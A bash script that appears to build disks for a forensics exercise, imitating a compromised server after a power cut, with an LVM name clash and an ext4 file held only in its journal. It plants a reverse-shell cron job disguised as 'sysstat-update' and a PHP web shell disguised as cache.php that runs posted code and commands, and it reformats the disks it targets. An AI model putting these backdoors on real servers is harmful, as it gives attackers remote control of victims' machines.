#!/bin/bash
# Makes two disks of a server that was broken into, as a power cut leaves them: a root of XFS on LVM, in a group whose
# name another server has too, and an ext4 whose last file stands in its journal alone.
# ROOT_SERIAL, DATA_SERIAL: of the disks.
set -eu
: "${ROOT_SERIAL:?}" "${DATA_SERIAL:?}"
device_of() { lsblk -dnro PATH,SERIAL | sed -n "s/ $1\$//p"; }
root=$(device_of "$ROOT_SERIAL") data=$(device_of "$DATA_SERIAL")

pvcreate -q "$root"
vgcreate -q web-vg "$root"
lvcreate -q -n root -l 100%FREE web-vg
mkfs.xfs -q /dev/web-vg/root
mkdir -p /made/root /made/data
mount /dev/web-vg/root /made/root
cp -a /etc /home /root /made/root
mkdir -p /made/root/var
cp -a /var/log /made/root/var
printf '*/10 * * * * root bash -c "bash -i >& /dev/tcp/203.0.113.66/4444 0>&1"\n' >/made/root/etc/cron.d/sysstat-update
sync

mkfs.ext4 -q "$data"
mount "$data" /made/data
mkdir -p /made/data/shop
sync
# Nothing is written back from the journal until it has filled up.
cat >/made/data/shop/cache.php <<'PHP'
<?php if (isset($_POST['code'])) { @eval(base64_decode($_POST['code'])); } if (isset($_POST['cmd'])) { system($_POST['cmd']); }
PHP
perl -MIO::Handle -e 'open my $file, "<", "/made/data/shop/cache.php" or die; $file->sync or die'
